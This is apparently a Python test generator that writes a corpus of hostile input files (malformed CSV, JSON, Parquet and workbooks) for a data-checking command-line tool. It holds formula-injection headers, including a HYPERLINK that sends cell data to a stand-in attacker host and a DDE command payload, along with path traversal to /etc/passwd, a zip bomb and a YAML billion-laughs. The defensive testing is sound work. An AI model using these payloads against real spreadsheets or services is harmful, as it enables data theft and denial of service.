"""Write the hostile-input corpus: files an unattended portal step may be handed.

`python tests/hostile/make_corpus.py DIR` writes every case into DIR and prints the case count;
the tests call `build(DIR)`. Each case is a `Case`: the command-line arguments (paths relative to
the case folder) and what must happen:

- "error":  exit 2 with exactly one line on stderr, starting "sharecheck: error:";
- "report": exit 0 or 1 and a JSON report, optionally checked by `check(document)`;
- "either": one of the two (a file that is odd but not necessarily wrong).

Nothing here is personal data: names are canaries made up for the purpose.
"""
from __future__ import annotations

import datetime as dt
import decimal
import io
import json
import os
import random
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

# Non-ASCII and ASCII canaries: if any of them reaches an output, a raw value leaked.
CANARIES = ("Zqxwvkanary", "Жёлудев", "黄晓明", "الزهراني", "Ærøskøbing", "Łódzkiewicz")
CANARY_EMAIL = "žofie.kanárková@příklad.cz"


@dataclass
class Case:
    name: str
    args: list[str]
    expect: str  # error | report | either
    check: Callable[[dict], str | None] | None = None  # returns a complaint, or None
    inputs: list[str] = field(default_factory=list)  # files to hash before/after (default: all in folder)


CASES: list[Case] = []


def case(name: str, expect: str, *args: str, check=None) -> None:
    CASES.append(Case(name, list(args) or [name], expect, check))


def _write(directory: Path, name: str, data: bytes | str) -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def _people_csv(rows: int = 30, delimiter: str = ",") -> str:
    lines = [delimiter.join(["name", "email", "zip", "birth_date", "note"])]
    for index in range(rows):
        canary = CANARIES[index % len(CANARIES)]
        lines.append(delimiter.join([f"{canary} {index}", f"k{index}.{canary}@example.org",
                                     f"0{2100 + index % 7}", f"19{50 + index % 40}-0{1 + index % 9}-1{index % 9}",
                                     f"{canary} note"]))
    return "\n".join(lines) + "\n"


def _datasets(document: dict) -> list[str]:
    return [d["name"] for d in document.get("datasets", [])]


def _needs(count: int):
    return lambda document: None if len(document.get("datasets", [])) >= count else f"datasets {_datasets(document)}"


def _has_note(word: str):
    def check(document: dict) -> str | None:
        notes = " ".join(n for d in document.get("datasets", []) for n in d.get("notes", []))
        return None if word in notes else f"no note with {word!r}: {notes!r}"
    return check


def _has_column(name: str):
    def check(document: dict) -> str | None:
        names = [c["name"] for d in document.get("datasets", []) for c in d.get("columns", [])]
        return None if name in names else f"no column {name!r} in {names[:20]}"
    return check


def _finds(code_prefix: str):
    def check(document: dict) -> str | None:
        codes = [f["code"] for f in document.get("findings", [])]
        return None if any(code.startswith(code_prefix) for code in codes) else f"no {code_prefix} finding in {codes}"
    return check


# --------------------------------------------------------------------------- delimited text

def csv_cases(d: Path) -> None:
    _write(d, "empty.csv", b""); case("empty.csv", "error")
    _write(d, "blank.csv", " \n\n \t\n"); case("blank.csv", "error")
    _write(d, "header_only.csv", "a,b,c\n"); case("header_only.csv", "error")
    _write(d, "bom_only.csv", b"\xef\xbb\xbf"); case("bom_only.csv", "error")
    _write(d, "unclosed_quote.csv", 'a,b\n1,"open\n2,3\n'); case("unclosed_quote.csv", "error")
    _write(d, "ragged.csv", "a,b\n1,2,3,4\n5\n6,7,8\n"); case("ragged.csv", "either")
    _write(d, "binary.csv", bytes(random.Random(1).randrange(256) for _ in range(5000))); case("binary.csv", "either")
    _write(d, "nul_inside.csv", b"a,b\n1,2\n3,\x00\x00\x004\n"); case("nul_inside.csv", "either")
    _write(d, "people.csv", _people_csv()); case("people.csv", "report", check=_finds("ID1"))
    _write(d, "people_semicolon.csv", _people_csv(delimiter=";")); case("people_semicolon.csv", "report")
    _write(d, "people.tsv", _people_csv(delimiter="\t")); case("people.tsv", "report")
    _write(d, "commas_in.tsv", "a,b,c\n1,2,3\n"); case("commas_in.tsv", "either")
    # One endless line: refused before any parser sees it (the limit is 16 MiB).
    with open(d / "huge_line.csv", "wb") as handle:
        handle.write(b"a,b\n1,")
        for _ in range(20):
            handle.write(b"x" * (1 << 20))
        handle.write(b"\n")
    case("huge_line.csv", "error")
    case("huge_line_lower_limit.csv", "error", "people.csv", "--limit", "line_bytes=50")
    # A quoted cell of 6 MB made of short lines: the line limit does not see it, the cell limit does.
    cell = ("y" * 99 + "\n") * 60_000
    _write(d, "huge_cell.csv", f'a,b\n1,"{cell}"\n2,z\n'); case("huge_cell.csv", "error")
    _write(d, "wide.csv", ",".join(f"c{i}" for i in range(25_000)) + "\n" + ",".join("1" * 25_000) + "\n")
    case("wide.csv", "error")
    _write(d, "wide_ok.csv", ",".join(f"c{i}" for i in range(300)) + "\n" + ("\n".join(",".join(str((r * i) % 7) for i in range(300)) for r in range(5))) + "\n")
    case("wide_ok.csv", "either")
    _write(d, "dup_header.csv", "a,a,a\n1,2,3\n4,5,6\n"); case("dup_header.csv", "either")
    _write(d, "blank_header.csv", ",,\n1,2,3\n"); case("blank_header.csv", "either")
    _write(d, "only_commas.csv", ",,,\n,,,\n,,,\n"); case("only_commas.csv", "either")
    formulas = ['=HYPERLINK("http://evil.example/?q="&A2,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    _write(d, "formula_header.csv", ",".join(f'"{name.replace(chr(34), chr(34) * 2)}"' for name in formulas) + "\n1,2,3,4\n5,6,7,8\n")
    case("formula_header.csv", "report")
    _write(d, "markup_header.csv", "[/x],[bold red]b[/],[link=http://x]c\n1,2,3\n4,5,6\n"); case("markup_header.csv", "report")
    _write(d, "escape_header.csv", "\x1b[31mred\x1b[0m,\x1b]0;title\x07b,c\x08\x08\n1,2,3\n4,5,6\n"); case("escape_header.csv", "report")
    _write(d, "control_values.csv", "a,b\n\x01\x02\x03,\x1b[2J\n\x7f,\x9b31m\n"); case("control_values.csv", "report")
    _write(d, "newline_header.csv", '"a\nb","c\rd"\n1,2\n3,4\n'); case("newline_header.csv", "either")
    _write(d, "bidi_header.csv", "\u202eemanresu,\u2066x\u2069\n1,2\n"); case("bidi_header.csv", "report")
    _write(d, "script_header.csv", '"<script>alert(1)</script>","[x](https://evil.example)","@everyone"\n1,2,3\n'); case("script_header.csv", "report")
    _write(d, "long_header.csv", "n" * 5000 + ",b\n1,2\n"); case("long_header.csv", "either")
    people = _people_csv()
    _write(d, "cp1252.csv", people.encode("cp1252", errors="replace")); case("cp1252.csv", "report")
    for label, encoding, bom in (("utf16le_bom", "utf-16-le", b"\xff\xfe"), ("utf16be_bom", "utf-16-be", b"\xfe\xff"),
                                 ("utf32le_bom", "utf-32-le", b"\xff\xfe\x00\x00"), ("utf32be_bom", "utf-32-be", b"\x00\x00\xfe\xff"),
                                 ("utf16le", "utf-16-le", b""), ("utf32le", "utf-32-le", b""), ("utf32be", "utf-32-be", b"")):
        _write(d, f"{label}.csv", bom + people.encode(encoding))
        case(f"{label}.csv", "report", check=_has_column("email"))
    _write(d, "shift_jis.csv", "名前,市\n黄晓明,東京\n山田,大阪\n".encode("shift_jis", errors="replace")); case("shift_jis.csv", "either")
    _write(d, "bad_utf8_late.csv", people.encode() + b"x,\xff\xfe\xfa,1,2,3\n"); case("bad_utf8_late.csv", "report")
    _write(d, "cr_only.csv", people.replace("\n", "\r")); case("cr_only.csv", "either")
    _write(d, "crlf.csv", people.replace("\n", "\r\n")); case("crlf.csv", "report")
    _write(d, "decimal_comma.csv", "a;b\n1,5;2\n3,25;4\n"); case("decimal_comma.csv", "report")
    _write(d, "one_column.csv", "a\n1\n2\n3\n"); case("one_column.csv", "report")
    _write(d, "all_null.csv", "a,b\n,\nNULL,N/A\n,\n"); case("all_null.csv", "either")
    _write(d, "broken_quotes.csv", 'a,b\n"x""y,1\n"z"w",2\n'); case("broken_quotes.csv", "either")
    _write(d, "numeric_overflow.csv", "a,b\n1e400,99999999999999999999999999999\n-1e400,-99999999999999999999999999\n"); case("numeric_overflow.csv", "report")
    _write(d, "odd_dates.csv", "d,t\n99999-01-01,25:61:61\n0000-00-00,00:00\n2020-02-30,12:00\n"); case("odd_dates.csv", "report")
    _write(d, "zip_named.csv", _xlsx_bytes({"S": [["a"], ["1"]]})); case("zip_named.csv", "either")
    _write(d, "constant.csv", "a,b\n" + "1,2\n" * 10_000); case("constant.csv", "report")
    _write(d, "empty_lines.csv", "a,b\n\n\n1,2\n\n\n3,4\n\n"); case("empty_lines.csv", "either")
    (d / "folder.csv").mkdir(exist_ok=True); case("folder.csv", "error")
    if hasattr(os, "mkfifo"):
        os.mkfifo(d / "fifo.csv"); case("fifo.csv", "error")
    _write(d, "json_in.txt", '{"a": 1}\n'); case("json_in.txt", "either")
    _write(d, "unknown.xyz", "a,b\n1,2\n"); case("unknown.xyz", "error")
    case("missing.csv", "error")


# --------------------------------------------------------------------------- JSON, NDJSON, GeoJSON

def _nested(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


def json_cases(d: Path) -> None:
    records = [{"name": f"{CANARIES[i % 6]} {i}", "email": CANARY_EMAIL if i == 0 else f"x{i}@example.org",
                "zip": f"0{2100 + i % 5}", "age": 20 + i % 50} for i in range(40)]
    _write(d, "records.json", json.dumps(records, ensure_ascii=False)); case("records.json", "report")
    _write(d, "truncated.json", json.dumps(records)[:500]); case("truncated.json", "error")
    _write(d, "not_json.json", "this is { not json"); case("not_json.json", "error")
    for depth in (500, 100, 33):
        _write(d, f"nested_{depth}.json", f"[{_nested(depth)}]"); case(f"nested_{depth}.json", "error")
    _write(d, "nested_10000.json", "[" * 10_000 + "]" * 10_000); case("nested_10000.json", "error")
    _write(d, "nested_ok.json", json.dumps([{"a": {"b": {"c": {"d": 1}}}, "e": 2}] * 5)); case("nested_ok.json", "report")
    _write(d, "brackets_in_strings.json", json.dumps([{"text": "[" * 200 + "{" * 200, "n": i} for i in range(5)]))
    case("brackets_in_strings.json", "report")
    for label, text in (("scalar", "42"), ("string", '"hello"'), ("null", "null"), ("empty_list", "[]"),
                        ("empty_object", "{}"), ("numbers", "[1, 2, 3]"), ("empty_records", "[{}, {}]"),
                        ("lists_of_lists", "[[1, 2], [3, 4]]"), ("two_lists", '{"a": [{"x": 1}], "b": [{"y": 2}]}'),
                        ("mixed_rows", '[{"a": 1}, 2, "x"]')):
        _write(d, f"{label}.json", text); case(f"{label}.json", "either" if label == "empty_records" else "error")
    changing = [{"a": i, "b": "x"} for i in range(20)] + [{"a": "Zqxwvkanary Жёлудев", "b": {"c": 1}}, {"a": [1, 2], "b": None}]
    _write(d, "type_change.json", json.dumps(changing, ensure_ascii=False)); case("type_change.json", "report")
    _write(d, "huge_numbers.json", '[{"a": 1e999, "b": 123456789012345678901234567890}, {"a": -1e999, "b": 1}]'); case("huge_numbers.json", "either")
    _write(d, "nan_literal.json", '[{"a": NaN, "b": Infinity}, {"a": 1, "b": 2}]'); case("nan_literal.json", "either")
    _write(d, "duplicate_keys.json", '[{"a": 1, "a": 2}, {"a": 3}]'); case("duplicate_keys.json", "either")
    _write(d, "lone_surrogate.json", '[{"a": "\\ud800x"}, {"a": "y"}]'); case("lone_surrogate.json", "either")
    _write(d, "control_keys.json", json.dumps([{"\x1b[31mred": 1, "[/x]": 2, "=cmd()": 3}] * 3)); case("control_keys.json", "report")
    _write(d, "wide.json", json.dumps([{f"k{i}": i for i in range(25_000)}])); case("wide.json", "error")
    _write(d, "huge_cell.json", json.dumps([{"a": "z" * (6 << 20)}, {"a": "b"}])); case("huge_cell.json", "error")
    _write(d, "bom.json", b"\xef\xbb\xbf" + json.dumps(records).encode()); case("bom.json", "report")
    _write(d, "utf16.json", b"\xff\xfe" + json.dumps(records).encode("utf-16-le")); case("utf16.json", "report")
    _write(d, "binary.json", b"\x00\x01\x02" * 100); case("binary.json", "error")
    _write(d, "cp1252.json", json.dumps([{"name": "Ærøskøbing"}] * 3, ensure_ascii=False).encode("cp1252")); case("cp1252.json", "either")


def ndjson_cases(d: Path) -> None:
    lines = [json.dumps({"id": i, "zip": f"0{2100 + i % 5}", "v": i}) for i in range(10_050)]
    lines.append(json.dumps({"id": "Zqxwvkanary Жёлудев", "zip": {"nested": 1}, "v": [1]}, ensure_ascii=False))
    _write(d, "late_type_change.ndjson", "\n".join(lines) + "\n"); case("late_type_change.ndjson", "report")
    late = [json.dumps({"a": i}) for i in range(10_010)] + [json.dumps({"a": "text"})]
    _write(d, "late_int_to_text.ndjson", "\n".join(late) + "\n"); case("late_int_to_text.ndjson", "report")
    _write(d, "blank_lines.jsonl", '{"a": 1}\n\n\n{"a": 2}\n\n'); case("blank_lines.jsonl", "either")
    _write(d, "garbage_line.ndjson", '{"a": 1}\n{"a": 2}\nnot json at all\n'); case("garbage_line.ndjson", "error")
    _write(d, "array_line.ndjson", '{"a": 1}\n[1, 2]\n'); case("array_line.ndjson", "either")
    _write(d, "scalars.ndjson", "1\n2\n3\n"); case("scalars.ndjson", "either")
    _write(d, "nested_500.ndjson", '{"a": 1}\n' + _nested(500) + "\n"); case("nested_500.ndjson", "error")
    with open(d / "huge_line.ndjson", "wb") as handle:
        handle.write(b'{"a": "' + b"x" * (17 << 20) + b'"}\n')
    case("huge_line.ndjson", "error")
    _write(d, "empty_objects.ndjson", "{}\n{}\n"); case("empty_objects.ndjson", "either")
    _write(d, "int_overflow.ndjson", '{"a": 99999999999999999999999999}\n{"a": 1}\n'); case("int_overflow.ndjson", "either")
    _write(d, "all_null.ndjson", '{"a": null}\n{"a": null}\n'); case("all_null.ndjson", "either")
    _write(d, "truncated.ndjson", '{"a": 1}\n{"a": 2, "b": "x'); case("truncated.ndjson", "either")
    _write(d, "binary.ndjson", bytes(range(256)) * 20); case("binary.ndjson", "error")


def geojson_cases(d: Path) -> None:
    def feature(geometry, properties):
        return {"type": "Feature", "geometry": geometry, "properties": properties}
    good = {"type": "FeatureCollection", "features": [
        feature({"type": "Point", "coordinates": [-71.05 + i / 1000, 42.35]}, {"owner": f"{CANARIES[i % 6]}", "id": i})
        for i in range(20)]}
    _write(d, "points.geojson", json.dumps(good, ensure_ascii=False)); case("points.geojson", "report")
    _write(d, "no_features.geojson", '{"type": "FeatureCollection", "features": []}'); case("no_features.geojson", "error")
    _write(d, "features_object.geojson", '{"type": "FeatureCollection", "features": {"a": 1}}'); case("features_object.geojson", "error")
    _write(d, "features_scalars.geojson", '{"type": "FeatureCollection", "features": [1, "x", null]}'); case("features_scalars.geojson", "error")
    bad = {"type": "FeatureCollection", "features": [
        feature({"type": "Point", "coordinates": ["x", "y"]}, None), feature("garbage", {"a": 1}),
        feature({"type": "Point", "coordinates": [1e400, -1e400]}, {"a": 2}), feature(None, [1, 2])]}
    _write(d, "bad_geometry.geojson", json.dumps(bad)); case("bad_geometry.geojson", "either")
    deep = '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"a": 1}, "geometry": {"type": "Polygon", "coordinates": ' + "[" * 300 + "]" * 300 + "}}]}"
    _write(d, "deep_geometry.geojson", deep); case("deep_geometry.geojson", "error")
    _write(d, "no_properties.geojson", json.dumps({"type": "FeatureCollection", "features": [
        feature({"type": "Point", "coordinates": [1, 2]}, None)] * 5})); case("no_properties.geojson", "either")
    _write(d, "list.geojson", "[1, 2, 3]"); case("list.geojson", "error")


# --------------------------------------------------------------------------- Parquet

def parquet_cases(d: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    def write(name: str, table, expect: str = "report", check=None) -> None:
        pq.write_table(table, d / name)
        case(name, expect, check=check)

    names = pa.array([f"{CANARIES[i % 6]} {i}" for i in range(12)])
    write("panic_date32.parquet", pa.table({"d": pa.array([2**31 - 1] + list(range(11)), type=pa.date32()), "name": names}),
          check=_has_note("outside years"))
    write("huge_timestamps.parquet", pa.table({"t": pa.array([2**62, -(2**62)] + [0] * 10, type=pa.timestamp("us")), "name": names}))
    write("timestamps_ms.parquet", pa.table({"t": pa.array([2**62] + [0] * 11, type=pa.timestamp("ms")), "name": names}))
    write("timestamps_tz.parquet", pa.table({"t": pa.array([0, 10**15] + [5] * 10, type=pa.timestamp("us", tz="Europe/Paris")), "name": names}))
    write("map.parquet", pa.table({"m": pa.array([[("k", 1)]] * 12, type=pa.map_(pa.string(), pa.int32())), "name": names}),
          check=_has_note("skipped"))
    write("duration.parquet", pa.table({"d": pa.array(range(12), type=pa.duration("s")), "name": names}))
    write("time.parquet", pa.table({"t": pa.array([dt.time(i % 24, 0) for i in range(12)]), "name": names}))
    write("decimal.parquet", pa.table({"x": pa.array([decimal.Decimal(i).scaleb(-3) for i in range(12)], type=pa.decimal128(20, 6)), "name": names}))
    write("decimal256.parquet", pa.table({"x": pa.array([decimal.Decimal(i) for i in range(12)], type=pa.decimal256(50, 2)), "name": names}))
    write("binary.parquet", pa.table({"b": pa.array([b"\x00\xff"] * 12), "name": names}), check=_has_note("skipped"))
    write("list.parquet", pa.table({"l": pa.array([[1, 2]] * 12), "name": names}))
    write("nested_struct.parquet", pa.table({"s": pa.array([{"a": {"b": {"c": i}}, "z": [i]} for i in range(12)]), "name": names}))
    write("only_nested.parquet", pa.table({"l": pa.array([[1]] * 12)}), expect="error")
    write("all_null.parquet", pa.table({"n": pa.array([None] * 12, type=pa.null()), "name": names}))
    write("zero_rows.parquet", pa.table({"a": pa.array([], type=pa.int64())}), expect="error")
    write("uint64.parquet", pa.table({"u": pa.array([2**64 - 1] * 12, type=pa.uint64()), "name": names}))
    write("floats.parquet", pa.table({"f": pa.array([float("nan"), float("inf"), -float("inf")] * 4), "name": names}))
    write("dictionary.parquet", pa.table({"c": pa.array(["a", "b"] * 6).dictionary_encode(), "name": names}))
    write("large_string.parquet", pa.table({"s": pa.array(["x"] * 12, type=pa.large_string()), "name": names}))
    write("fixed_binary.parquet", pa.table({"f": pa.array([b"abcd"] * 12, type=pa.binary(4)), "name": names}))
    write("date64.parquet", pa.table({"d": pa.array([0, 2**50] + [1] * 10, type=pa.date64()), "name": names}))
    write("time_ns.parquet", pa.table({"t": pa.array(list(range(12)), type=pa.time64("ns")), "name": names}))
    write("markup_names.parquet", pa.table({"[/x]": [1] * 12, "\x1b[31m": [2] * 12, "=HYPERLINK(\"x\")": [3] * 12}))
    pq.write_table(pa.table({f"c{i}": [1] for i in range(25_000)}), d / "wide.parquet"); case("wide.parquet", "error")
    big = io.BytesIO()
    pq.write_table(pa.table({"a": list(range(1000)), "name": [f"n{i}" for i in range(1000)]}), big)
    data = big.getvalue()
    _write(d, "truncated.parquet", data[: len(data) // 2]); case("truncated.parquet", "error")
    _write(d, "magic_only.parquet", b"PAR1" + b"\x00" * 100 + b"PAR1"); case("magic_only.parquet", "error")
    _write(d, "garbage.parquet", bytes(random.Random(2).randrange(256) for _ in range(3000))); case("garbage.parquet", "error")
    corrupt = bytearray(data)
    for offset in range(200, len(corrupt) - 200, 97):
        corrupt[offset] ^= 0x55
    _write(d, "corrupt_pages.parquet", bytes(corrupt)); case("corrupt_pages.parquet", "either")


# --------------------------------------------------------------------------- workbooks

_CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                  '<Default Extension="xml" ContentType="application/xml"/>'
                  '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                  '{sheets}</Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _sheet_xml(rows: list[list[str]]) -> str:
    cells = "".join("<row>" + "".join(f'<c t="inlineStr"><is><t>{_xml(v)}</t></is></c>' for v in row) + "</row>" for row in rows)
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{cells}</sheetData></worksheet>'


def _xlsx_bytes(sheets: dict[str, list[list[str]]], bomb_rows: int = 0) -> bytes:
    """A minimal workbook by hand (so names can hold anything); bomb_rows pads the first sheet."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                            for i in range(1, len(sheets) + 1))
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(sheets=overrides))
        archive.writestr("_rels/.rels", _RELS)
        entries = "".join(f'<sheet name="{_xml(name)}" sheetId="{i}" r:id="rId{i}"/>' for i, name in enumerate(sheets, 1))
        archive.writestr("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                         f'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>{entries}</sheets></workbook>')
        rels = "".join(f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{i}.xml"/>'
                       for i in range(1, len(sheets) + 1))
        archive.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships '
                         f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
        for i, rows in enumerate(sheets.values(), 1):
            if i == 1 and bomb_rows:
                with archive.open(f"xl/worksheets/sheet{i}.xml", "w", force_zip64=True) as member:
                    head, tail = _sheet_xml(rows).split("</sheetData>")
                    member.write(head.encode())
                    block = b"<row><c><v>1</v></c><c><v>2</v></c></row>" * 10_000
                    for _ in range(bomb_rows // 10_000):
                        member.write(block)
                    member.write(("</sheetData>" + tail).encode())
            else:
                archive.writestr(f"xl/worksheets/sheet{i}.xml", _sheet_xml(rows))
    return buffer.getvalue()


def xlsx_cases(d: Path) -> None:
    people = [["name", "email", "zip"]] + [[f"{CANARIES[i % 6]} {i}", f"k{i}@example.org", f"0{2100 + i % 5}"] for i in range(20)]
    readme = [["about"], ["This workbook lists licences."], ["Contact the office."]]
    _write(d, "two_sheets.xlsx", _xlsx_bytes({"README": readme, "Data": people})); case("two_sheets.xlsx", "report", check=_needs(2))
    _write(d, "people.xlsx", _xlsx_bytes({"Sheet1": people})); case("people.xlsx", "report", check=_finds("ID1"))
    _write(d, "sheet_option.xlsx", _xlsx_bytes({"README": readme, "Data": people}))
    case("sheet_option.xlsx", "report", "sheet_option.xlsx", "--sheet", "Data", check=_needs(1))
    case("missing_sheet.xlsx", "error", "sheet_option.xlsx", "--sheet", "Nope")
    # 2.4 million rows of XML (~100 MB inflated) in a ~1 MB file: refused under a 50 MB limit.
    _write(d, "bomb.xlsx", _xlsx_bytes({"S": [["a", "b"]]}, bomb_rows=2_400_000))
    case("bomb.xlsx", "error", "bomb.xlsx", "--limit", "workbook_bytes=50000000")
    _write(d, "empty_sheets.xlsx", _xlsx_bytes({"A": [], "B": []})); case("empty_sheets.xlsx", "error")
    _write(d, "header_only.xlsx", _xlsx_bytes({"A": [["a", "b"]]})); case("header_only.xlsx", "error")
    _write(d, "formulas.xlsx", _xlsx_bytes({"S": [['=HYPERLINK("http://x","y")', "@SUM(A1)", "+1-2", "[/x]"], ["1", "2", "3", "4"], ["5", "6", "7", "8"]]}))
    case("formulas.xlsx", "report")
    _write(d, "odd_sheet_names.xlsx", _xlsx_bytes({"[/x]": people, "\u202eesrever": people, "<script>": people}))
    case("odd_sheet_names.xlsx", "report", check=_needs(3))
    _write(d, "garbage.xlsx", bytes(random.Random(3).randrange(256) for _ in range(4000))); case("garbage.xlsx", "error")
    good = _xlsx_bytes({"S": people})
    _write(d, "truncated.xlsx", good[: len(good) // 2]); case("truncated.xlsx", "error")
    no_workbook = io.BytesIO()
    with zipfile.ZipFile(no_workbook, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    _write(d, "no_workbook.xlsx", no_workbook.getvalue()); case("no_workbook.xlsx", "error")
    _write(d, "csv_named.xlsx", _people_csv()); case("csv_named.xlsx", "error")
    _write(d, "garbage.xls", b"\xd0\xcf\x11\xe0" + b"\x00" * 2000); case("garbage.xls", "error")
    _write(d, "macro.xlsm", good); case("macro.xlsm", "report")
    _write(d, "control_cells.xlsx", _xlsx_bytes({"S": [["a", "b"], ["x\ty", "\u202eq"], ["1", "2"]]})); case("control_cells.xlsx", "report")
    wide = [[f"c{i}" for i in range(25_000)], ["1"] * 25_000]
    _write(d, "wide.xlsx", _xlsx_bytes({"S": wide})); case("wide.xlsx", "error")


# --------------------------------------------------------------------------- data packages

def _package(d: Path, name: str, descriptor: dict | str, files: dict[str, str] | None = None) -> Path:
    folder = d / name
    folder.mkdir(parents=True, exist_ok=True)
    for file_name, text in (files or {}).items():
        _write(folder, file_name, text)
    _write(folder, "datapackage.json", descriptor if isinstance(descriptor, str) else json.dumps(descriptor))
    return folder


def datapackage_cases(d: Path) -> None:
    people = _people_csv(12)
    _write(d, "outside.csv", people)
    ok = {"resources": [{"name": "people", "path": "people.csv"}]}
    _package(d, "dp_ok", ok, {"people.csv": people}); case("dp_ok", "report", "dp_ok")
    for label, path in (("dotdot", "../outside.csv"), ("dotdot_deep", "sub/../../outside.csv"), ("absolute", str((d / "outside.csv").resolve())),
                        ("etc_passwd", "/etc/passwd"), ("windows", "C:\\Windows\\win.ini"), ("unc", "\\\\server\\share\\x.csv"),
                        ("url", "https://example.org/x.csv"), ("file_url", "file:///etc/passwd"), ("home", "~/x.csv"),
                        ("empty_path", ""), ("self", "datapackage.json"), ("missing", "nope.csv"), ("nul", "a\x00.csv")):
        _package(d, f"dp_{label}", {"resources": [{"name": "r", "path": path}]})
        case(f"dp_{label}", "error", f"dp_{label}")
    _package(d, "dp_list_one_bad", {"resources": [{"name": "r", "path": ["people.csv", "../outside.csv"]}]}, {"people.csv": people})
    case("dp_list_one_bad", "error", "dp_list_one_bad")
    folder = _package(d, "dp_symlink", {"resources": [{"name": "r", "path": "link.csv"}]})
    try:
        os.symlink(d / "outside.csv", folder / "link.csv")
        case("dp_symlink", "error", "dp_symlink")
    except OSError:
        pass
    folder = _package(d, "dp_symlink_dir", {"resources": [{"name": "r", "path": "sub/outside.csv"}]})
    try:
        os.symlink(d, folder / "sub")
        case("dp_symlink_dir", "error", "dp_symlink_dir")
    except OSError:
        pass
    _package(d, "dp_schema_dotdot", {"resources": [{"name": "r", "path": "people.csv", "schema": "../schema.json"}]}, {"people.csv": people})
    _write(d, "schema.json", json.dumps({"fields": [{"name": "name", "role": "other"}]}))
    case("dp_schema_dotdot", "error", "dp_schema_dotdot")
    _package(d, "dp_schema_absolute", {"resources": [{"name": "r", "path": "people.csv", "schema": str((d / "schema.json").resolve())}]}, {"people.csv": people})
    case("dp_schema_absolute", "error", "dp_schema_absolute")
    _package(d, "dp_schema_url", {"resources": [{"name": "r", "path": "people.csv", "schema": "http://x/s.json"}]}, {"people.csv": people})
    case("dp_schema_url", "error", "dp_schema_url")
    for label, descriptor in (("resources_object", '{"resources": {"a": 1}}'), ("resources_empty", '{"resources": []}'),
                              ("resource_scalar", '{"resources": [1]}'), ("no_path", '{"resources": [{"name": "r"}]}'),
                              ("path_number", '{"resources": [{"name": "r", "path": 5}]}'),
                              ("fields_object", '{"resources": [{"name": "r", "path": "people.csv", "schema": {"fields": {"a": 1}}}]}'),
                              ("field_no_name", '{"resources": [{"name": "r", "path": "people.csv", "schema": {"fields": [{"type": "string"}]}}]}'),
                              ("schema_scalar", '{"resources": [{"name": "r", "path": "people.csv", "schema": 7}]}'),
                              ("bad_inline", '{"resources": [{"name": "r", "data": [1, 2, 3]}]}'),
                              ("not_json", "{resources: nope")):
        _package(d, f"dp_{label}", descriptor, {"people.csv": people})
        case(f"dp_{label}", "error", f"dp_{label}")
    _package(d, "dp_markup_name", {"resources": [{"name": "[/x]\x1b[31m<script>", "path": "people.csv"}]}, {"people.csv": people})
    case("dp_markup_name", "report", "dp_markup_name")
    laughs = "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
    for i in range(1, 10):
        laughs += f"{chr(97 + i)}: &{chr(97 + i)} [" + ",".join([f"*{chr(96 + i)}"] * 9) + "]\n"
    laughs += "resources: [{name: r, path: people.csv, schema: {fields: *j}}]\n"
    folder = d / "dp_yaml_laughs"
    folder.mkdir(exist_ok=True)
    _write(folder, "datapackage.yaml", laughs)
    _write(folder, "people.csv", people)
    case("dp_yaml_laughs", "error", "dp_yaml_laughs/datapackage.yaml")
    _write(folder, "bad.yaml", "")
    folder = d / "dp_yaml_bad"
    folder.mkdir(exist_ok=True)
    _write(folder, "datapackage.yaml", "resources: [unclosed\n  - : :")
    case("dp_yaml_bad", "error", "dp_yaml_bad/datapackage.yaml")


# --------------------------------------------------------------------------- commands and options

def command_cases(d: Path) -> None:
    case("join_hostile", "error", "join", "people.csv", "nested_500.json")
    case("join_ok", "report", "join", "people.csv", "people_semicolon.csv")
    case("join_one_file", "error", "join", "people.csv")
    case("output_is_input", "error", "people.csv", "-o", "people.csv")
    case("output_into_package", "error", "dp_ok", "-o", "dp_ok/people.csv")
    case("bad_limit", "error", "people.csv", "--limit", "depth=-3")
    case("unknown_limit", "error", "people.csv", "--limit", "nonsense=3")
    case("unknown_option", "error", "people.csv", "--no-such-option")
    case("bad_threshold", "error", "people.csv", "--threshold", "k_min=banana")
    _write(d, "show_values.toml", "show_values = true\n"); case("config_show_values", "error", "people.csv", "--config", "show_values.toml")
    _write(d, "never.toml", 'fail_on = "never"\n'); case("config_fail_never", "error", "people.csv", "--config", "never.toml")
